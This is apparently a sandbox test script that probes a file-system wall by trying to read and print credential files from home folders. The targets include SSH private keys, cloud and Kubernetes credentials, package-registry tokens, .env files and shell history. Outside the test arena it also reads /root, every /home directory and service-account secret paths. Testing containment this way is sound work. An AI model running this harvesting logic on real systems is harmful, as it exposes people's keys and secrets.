# attack: credentials
# threat: files
# tries: collect the keys and tokens that tools keep in the home folder
# wall: wasi_files
# native: root
# control: a token in the arena's stand-in of a home folder is printed
# oracle: the token is not in what comes back
import os
import sys

print("begun", flush=True)
names = [
    ".ssh/id_ed25519",
    ".ssh/id_rsa",
    ".aws/credentials",
    ".config/gcloud/application_default_credentials.json",
    ".docker/config.json",
    ".kube/config",
    ".netrc",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".env",
    ".bash_history",
    ".local/share/keyrings/login.keyring",
]
homes = [sys.argv[1]]
if "CASEMATE_ARENA" not in os.environ:
    homes += ["/root", os.path.expanduser("~"), "/var/run/secrets/kubernetes.io/serviceaccount", "/run/secrets"]
    homes += [os.path.join("/home", name) for name in (os.listdir("/home") if os.path.isdir("/home") else [])]
for home in homes:
    for name in [*names, "token"]:
        try:
            with open(os.path.join(home, name)) as file:
                print(file.read())
        except OSError as error:
            last = error
print(last)
